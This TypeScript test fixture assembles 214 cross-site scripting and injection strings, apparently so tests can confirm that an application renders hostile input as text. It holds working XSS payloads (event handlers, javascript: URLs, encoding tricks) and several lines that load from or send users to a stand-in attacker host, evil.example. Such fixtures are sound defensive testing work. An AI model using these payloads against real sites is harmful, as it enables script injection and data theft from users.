/** The code of every payload; no screen may execute it. */
const RUN = 'globalThis.__ran=1';
const EXTERNAL = 'https://evil.example/taken';

const SINKS = [
  `<script>${RUN}</script>`,
  `<script src="${EXTERNAL}"></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>parent.__ran=1</script>">`,
  `<base href="${EXTERNAL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EXTERNAL}">`,
  `<link rel="stylesheet" href="${EXTERNAL}.css">`,
  `<style>@import '${EXTERNAL}.css';*{background:url(${EXTERNAL})}</style>`,
  `<form action="${EXTERNAL}"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<img src="${EXTERNAL}.png">`,
  `<img srcset="${EXTERNAL}.png 1x">`,
  `<video poster="${EXTERNAL}.png"><source src="${EXTERNAL}.mp4"></video>`,
  `<audio src="${EXTERNAL}.mp3" autoplay></audio>`,
  `<div style="background:url(${EXTERNAL})">x</div>`,
  `<table background="${EXTERNAL}"><td>x</table>`,
  `<portal src="${EXTERNAL}"></portal>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex=1 x='`,
  `<a href="javascript:${RUN}">clique</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">clique</a>`,
  `[clique](javascript:${RUN})`,
  `[clique](data:text/html;base64,PHNjcmlwdD4x)`,
  `![x](${EXTERNAL}.png)`,
  `[x]: ${EXTERNAL}`,
  `javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  EXTERNAL,
  `//evil.example/taken`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `$t(common:cancel) {{name}} $t(../../x)`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `<\u200bimg src=x onerror=${RUN}>`,
  `＜img src=x onerror=${RUN}＞`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `{"__proto__":{"__ran":1}}`,
  `<x contenteditable onblur=${RUN}>x</x>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<set attributeName="onload" to="${RUN}">`,
  `<use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<foreignObject><img src=x onerror=${RUN}></foreignObject>`,
  `<div is="x" onclick=${RUN}>x</div>`,
  `<img src=x onerror=&#97;lert(1)>`,
];

/** Elements and handlers that execute without user interaction. */
const ELEMENTS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus'];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onloadstart', 'onanimationstart', 'onpageshow'];
const SPACES = [' ', '/', '\n', '\f'];

/** 214 texts, each of which would execute, load or navigate if it were not rendered as text. */
export const PAYLOADS: readonly string[] = [
  ...SINKS,
  ...ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) =>
      SPACES.map((space) => `<${element}${space}${handler}="${RUN};alert(1)">`),
    ),
  ),
];

/** @returns a function that returns the next `count` payloads, in a cycle. */
export function createPayloadCycle(): (count: number) => string {
  let index = 0;
  return (count) =>
    Array.from({ length: count }, () => PAYLOADS[index++ % PAYLOADS.length]).join(' ');
}
